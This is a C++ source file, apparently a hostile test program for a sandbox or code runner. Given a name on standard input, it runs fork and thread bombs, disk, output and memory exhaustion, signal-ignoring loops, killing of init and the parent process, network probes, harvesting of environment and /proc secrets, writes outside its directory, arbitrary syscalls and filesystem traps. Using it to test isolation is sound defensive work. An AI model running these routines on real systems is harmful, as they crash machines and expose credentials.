// Hostile program in C++. The first line of standard input names what to try, the others are its arguments.
#include <arpa/inet.h>
#include <bits/stdc++.h>
#include <fcntl.h>
#include <netdb.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

using namespace std;
namespace fs = std::filesystem;
using Words = vector<string>;

static const size_t MEGABYTE = 1 << 20;

void honest(const Words&) { puts("still here"); }

void fork_bomb(const Words&) {
    while (true) fork();
}

void shell_fork_bomb(const Words&) { execl("/bin/bash", "bash", "-c", ":(){ :|:& };:; sleep 600", nullptr); }

void thread_bomb(const Words&) {
    while (true) thread([] { sleep(600); }).detach();
}

void flood(int stream) {
    string text(65536, 'x');
    while (true) {
        if (write(stream, text.data(), text.size()) < 0) exit(1);
    }
}

void output_flood(const Words&) { flood(1); }
void error_flood(const Words&) { flood(2); }

bool fill(const string& path) {
    int file = open(path.c_str(), O_CREAT | O_WRONLY, 0666);
    string text(MEGABYTE, 'x');
    for (int turn = 0; file >= 0 && turn < 10240; turn++) {
        if (write(file, text.data(), text.size()) < 0) return false;
    }
    return file >= 0;
}

void huge_file(const Words&) {
    if (!fill("big")) exit(1);
}

void fills_every_folder(const Words& folders) {
    for (auto& folder : folders) fill(folder + "/big");
    exit(1);
}

void many_files(const Words&) {
    for (int number = 0; number < 300000; number++) {
        int file = open(to_string(number).c_str(), O_CREAT | O_WRONLY, 0666);
        if (file < 0) exit(1);
        close(file);
    }
}

void memory_hog(const Words&) {
    vector<char*> held;
    while (true) {
        held.push_back(new char[10 * MEGABYTE]);
        memset(held.back(), int(held.size()), 10 * MEGABYTE);
    }
}

void memory_of_children(const Words&) {
    for (int child = 0; child < 8; child++) {
        if (fork() == 0) {
            vector<char> held(100 * MEGABYTE, 'y');
            *const_cast<volatile char*>(held.data()) = 'z';
            sleep(2);
            _exit(0);
        }
    }
    while (wait(nullptr) > 0) {}
}

void deaf_loop(const Words&) {
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    rlimit none{RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_CPU, &none);
    for (volatile long turn = 0;; turn = turn + 1) {}
}

void sleeper(const Words&) { sleep(600); }

void stopped(const Words&) {
    kill(0, SIGSTOP);
    sleep(600);
}

void daemon_left(const Words&) {
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            signal(SIGTERM, SIG_IGN);
            signal(SIGHUP, SIG_IGN);
            while (true) sleep(1);
        }
        _exit(0);
    }
    puts("parent is done");
}

void kills_everything(const Words&) {
    int parent = getppid();
    rlimit least{1, 1};
    for (auto kind : {RLIMIT_CPU, RLIMIT_NOFILE}) prlimit(1, kind, &least, nullptr);
    setpriority(PRIO_PROCESS, 1, 19);
    for (int process : {-1, 1, parent}) kill(process, SIGKILL);
}

bool reach(const string& kind, const string& host, const string& port) {
    int made = -1;
    if (kind == "unix") {
        sockaddr_un address{AF_UNIX, {}};
        memcpy(address.sun_path, host.data(), min(host.size(), sizeof address.sun_path));
        if (host[0] == '@') address.sun_path[0] = 0;
        made = socket(AF_UNIX, SOCK_STREAM, 0);
        socklen_t size = offsetof(sockaddr_un, sun_path) + host.size() + (host[0] != '@');
        return made >= 0 && connect(made, reinterpret_cast<sockaddr*>(&address), size) == 0;
    }
    sockaddr_in four{};
    sockaddr_in6 six{};
    four.sin_family = AF_INET, six.sin6_family = AF_INET6;
    four.sin_port = six.sin6_port = htons(stoi(port));
    bool is_six = host.find(':') != string::npos;
    inet_pton(is_six ? AF_INET6 : AF_INET, host.c_str(), is_six ? (void*)&six.sin6_addr : (void*)&four.sin_addr);
    made = socket(is_six ? AF_INET6 : AF_INET, kind == "udp" ? SOCK_DGRAM : SOCK_STREAM, 0);
    timeval patience{0, 300000};
    setsockopt(made, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    bool is_there = connect(made, is_six ? (sockaddr*)&six : (sockaddr*)&four, is_six ? sizeof six : sizeof four) == 0;
    if (is_there) (void)!send(made, "x", 1, MSG_NOSIGNAL);
    return is_there && kind != "udp";
}

void connects(const Words& targets) {
    for (auto& target : targets) {
        istringstream parts(target);
        string kind, host, port;
        parts >> kind >> host >> port;
        if (reach(kind, host, port)) cout << "connected " << target << endl;
    }
}

void show(const fs::path& path) {
    struct stat about;
    if (lstat(path.c_str(), &about) != 0 || !S_ISREG(about.st_mode)) return;
    int file = open(path.c_str(), O_RDONLY);
    if (file < 0) return;
    string text(65536, 0);
    ssize_t size = read(file, text.data(), text.size());
    close(file);
    cout << path << ": " << text.substr(0, max<ssize_t>(size, 0)) << "\n";
}

void walk(const fs::path& root) {
    error_code ignored;
    for (fs::directory_iterator entry(root, ignored), end; !ignored && entry != end; entry.increment(ignored)) {
        if (fs::is_directory(entry->symlink_status(ignored))) walk(entry->path());
        else show(entry->path());
    }
}

void secrets(const Words& paths) {
    for (char** pair = environ; *pair; pair++) cout << *pair << "\n";
    error_code ignored;
    for (auto& entry : fs::directory_iterator("/proc", ignored)) {
        if (!isdigit(entry.path().filename().string()[0])) continue;
        for (auto part : {"environ", "cmdline"}) show(entry.path() / part);
    }
    for (auto& path : paths) {
        struct stat about;
        if (lstat(path.c_str(), &about) == 0) cout << "exists " << path << "\n";
        show(path);
    }
    set<string> skipped{"bin", "boot", "lib", "lib32", "lib64", "libx32", "opt", "proc", "sbin", "sys", "usr"};
    for (auto& entry : fs::directory_iterator("/", ignored)) {
        if (!skipped.count(entry.path().filename())) walk(entry.path());
    }
    for (auto root : {"/opt/runner", "/proc/1/cwd", "/proc/1/root/tmp"}) walk(root);
    cout << "end of search" << endl;
}

void writes_outside(const Words& words) {
    string mark = words[0];
    for (size_t at = 1; at < words.size(); at++) {
        size_t gap = words[at].find(' ');
        string kind = words[at].substr(0, gap), path = words[at].substr(gap + 1);
        if (kind == "folder") path += "/" + mark;
        int file = open(path.c_str(), kind == "open" ? O_WRONLY : O_WRONLY | O_CREAT | O_APPEND, 0666);
        if (file >= 0 && (kind == "open" || write(file, mark.data(), mark.size()) > 0)) cout << "wrote " << path << endl;
        if (kind == "file") unlink(path.c_str());
    }
}

void forbidden_calls(const Words& calls) {
    for (auto& call : calls) {
        istringstream parts(call);
        string name, word;
        parts >> name;
        vector<long> values;
        list<string> texts;
        while (parts >> word) {
            if (word[0] != 'x') {
                values.push_back(stol(word));
                continue;
            }
            string text;
            for (size_t at = 1; at < word.size(); at += 2) text += char(stoi(word.substr(at, 2), nullptr, 16));
            text.resize(256);
            texts.push_back(text);
            values.push_back(reinterpret_cast<long>(texts.back().data()));
        }
        values.resize(7);
        long result = syscall(values[0], values[1], values[2], values[3], values[4], values[5], values[6]);
        if (result == -1) cout << "refused " << name << " " << errno << endl;
        else cout << "allowed " << name << endl;
    }
    cout << "end of calls" << endl;
}

void leaves_traps(const Words& paths) {
    for (size_t number = 0; number < paths.size(); number++) {
        (void)!symlink(paths[number].c_str(), ("link" + to_string(number)).c_str());
    }
    mkfifo("pipe", 0666);
    int holes = open("holes", O_CREAT | O_WRONLY, 0666);
    (void)!ftruncate(holes, 1l << 40);
    fs::create_directories("closed/inner");
    chmod("closed", 0);
    string here = fs::current_path();
    for (int level = 0; level < 400; level++) {
        mkdir("deep", 0777);
        (void)!chdir("deep");
    }
    (void)!chdir(here.c_str());
    (void)!system("cp -r /proc/self/fdinfo /dev/shm/; mkfifo /tmp/pipe");
    cout << "traps are set" << endl;
}

void runs_python(const Words& lines) {
    string script;
    for (auto& line : lines) script += line + "\n";
    execl("/opt/python/bin/python3", "/opt/python/bin/python3", "-I", "-S", "-B", "-c", script.c_str(), nullptr);
}

int main() {
    map<string, void (*)(const Words&)> attacks{
        {"honest", honest}, {"fork_bomb", fork_bomb}, {"shell_fork_bomb", shell_fork_bomb},
        {"thread_bomb", thread_bomb}, {"output_flood", output_flood}, {"error_flood", error_flood},
        {"huge_file", huge_file}, {"fills_every_folder", fills_every_folder}, {"many_files", many_files},
        {"memory_hog", memory_hog}, {"memory_of_children", memory_of_children}, {"deaf_loop", deaf_loop},
        {"sleeper", sleeper}, {"stopped", stopped}, {"daemon", daemon_left}, {"kills_everything", kills_everything},
        {"connects", connects}, {"secrets", secrets}, {"writes_outside", writes_outside},
        {"forbidden_calls", forbidden_calls}, {"leaves_traps", leaves_traps}, {"runs_python", runs_python},
    };
    string name, line;
    Words words;
    getline(cin, name);
    while (getline(cin, line)) words.push_back(line);
    attacks.at(name)(words);
}
